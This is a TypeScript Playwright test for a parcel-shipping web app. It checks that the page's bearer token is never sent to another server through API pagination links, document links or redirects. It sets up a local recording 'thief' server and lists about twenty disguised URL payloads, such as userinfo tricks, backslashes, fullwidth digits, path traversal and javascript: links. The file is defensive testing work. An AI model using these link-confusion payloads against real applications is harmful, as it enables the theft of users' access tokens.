import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createParcel, processedParcel } from '../api/parcel-flows.ts';
import { readyBody } from '../api/sample-bodies.ts';
import { expect, test } from '../fixtures.ts';
import { fullDesk } from '../service-profiles.ts';
import { goTo } from './go-to.ts';
import { type JsonBody, withFront } from './front-server.ts';
import { firstMethod } from './parcel-pages.ts';

// The page's policy alone would stop a request to another server. It is off here, so that the page's own check is what holds.
test.use({ bypassCSP: true, serviceOptions: fullDesk });
test.setTimeout(180_000);

interface Thief {
  /** `127.0.0.1:PORT` */
  host: string;
  /** The Authorization header of every request that came, preflights included. */
  asked: (string | undefined)[];
}

/** A server of someone else that lets every page talk to it, with every header. */
async function withThief(provide: (thief: Thief) => Promise<void>): Promise<void> {
  const asked: Thief['asked'] = [];
  const server = createServer(({ headers }, response) => {
    asked.push(headers.authorization);
    response
      .writeHead(200, {
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*, authorization',
        'content-type': 'application/json',
      })
      .end('{"data":[],"links":{"next":null}}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    await provide({ host: `127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
  } finally {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
}

/** Links that lead elsewhere, however they are dressed. */
function trickLinks(own: string, thief: string): string[] {
  const ownHost = new URL(own).host;
  return [
    `http://${thief}/v1/parcels?cursor=x`,
    `${own}@${thief}/v1/parcels`,
    `http://${ownHost}:80@${thief}/v1/parcels`,
    `//${thief}/v1/parcels`,
    `\\\\${thief}\\v1\\parcels`,
    `/\\${thief}/v1/parcels`,
    `http:\\\\${thief}/v1/parcels`,
    `ht\ntp://${thief}/v1/parcels`,
    `http://${thief.replace('127', '１２７')}/v1/parcels`,
    `http://xn--127-0-0-1.xn--p1ai/v1/parcels`,
    `${own}/v2/parcels`,
    `${own}/v1/../parcels`,
    `${own}/v1/%2e%2e/parcels`,
    `http://user:word@${ownHost}/v1/parcels`,
    `http://localhost:${new URL(own).port}/v1/parcels`,
    `${own.replace('http:', 'https:')}/v1/parcels`,
    'javascript:fetch("/")',
    'data:application/json,{"data":[],"links":{"next":null}}',
    'http://[',
  ];
}

// Each way is a list or a parcel of its own: `npm test` has every ninth list and two parcels.
for (const all of [false, true])
  test(
    `a token never follows a link of the API to another place, ${all ? 'dressed in every way' : 'however it is dressed'}`,
    all ? { tag: '@safety' } : {},
    async ({ page, api, service }) => {
      await withThief(async (thief) => {
        await withFront(service, async (front) => {
          const tricks = trickLinks(front.origin, thief.host);
          await page.goto(front.link);
          const notice = page.getByRole('alert').filter({ hasText: 'An API link leads to another server' });
          for (const [index, trick] of [...tricks.entries()].filter(([at]) => all || at % 9 === 0)) {
            const since = `2020-01-01T00:00:${String(index).padStart(2, '0')}Z`;
            front.fault = ({ url }) =>
              url.startsWith('/v1/parcels?') ? { json: (body) => ({ ...body, links: { next: trick } }) } : null;
            await goTo(page, `/parcels?sort=-created_at&filter[created_since]=${since}`);
            await expect(page.getByText(/^100 loaded/)).toBeVisible();
            await expect(notice).toHaveCount(0);
            await page.keyboard.press('j');
            await page.keyboard.press('End');
            await expect(notice, trick).toBeVisible();
          }
          expect(front.seen.filter(({ url }) => !/^\/v1\/(parcels\?sort|shipping)/.test(url))).toEqual([]);

          const method = await firstMethod(api);
          const links = [tricks[0], 'javascript:alert(1)', ...(all ? [tricks[1], tricks[3], tricks[10]] : [])];
          for (const trick of links) {
            const { id } = await processedParcel(api, readyBody(method));
            front.fault = ({ url }) =>
              url === `/v1/parcels/${id}` ? { json: (body) => ({ data: withLinks(body, trick ?? '') }) } : null;
            await goTo(page, `/parcels/${id}`);
            await expect(page.getByText('This document is on another server').first(), trick).toBeVisible();
          }

          // A start and a redirect that point there.
          const { id } = await createParcel(api, readyBody(method));
          const elsewhere = `http://${thief.host}/v1/parcels/${id}/process`;
          front.fault = ({ method }) =>
            method === 'POST' ? { json: (body) => body, headers: { location: elsewhere } } : null;
          await goTo(page, `/parcels/${id}`);
          // The parcel before, which cannot be processed, stays until this one has come.
          await expect(page.getByText(id).first()).toBeVisible();
          await page.keyboard.press('p');
          await expect(page.getByRole('table', { name: 'Tracking' })).toBeVisible();
          front.fault = ({ url }) =>
            url.startsWith('/v1/parcels?') ? { status: 302, headers: { location: elsewhere } } : null;
          await goTo(page, '/parcels?sort=printed_at');
          await expect(page.getByRole('alert')).toContainText('No answer from');
        });
        expect(thief.asked, 'requests that reached the other server').toEqual([]);

        // It can be reached from this page: nothing but the page's own check kept the token from it.
        await page.evaluate(async (host) => {
          await fetch(`http://${host}/v1/parcels`, { headers: { Authorization: 'Bearer lost' } });
        }, thief.host);
        expect(thief.asked).toContain('Bearer lost');
      });
    },
  );

function withLinks(body: JsonBody, link: string): unknown {
  const parcel = body.data as { labels: object[] };
  return {
    ...parcel,
    documents: { labels: link, customs_declaration: link },
    labels: parcel.labels.map((label) => ({ ...label, tracking_url: link })),
  };
}
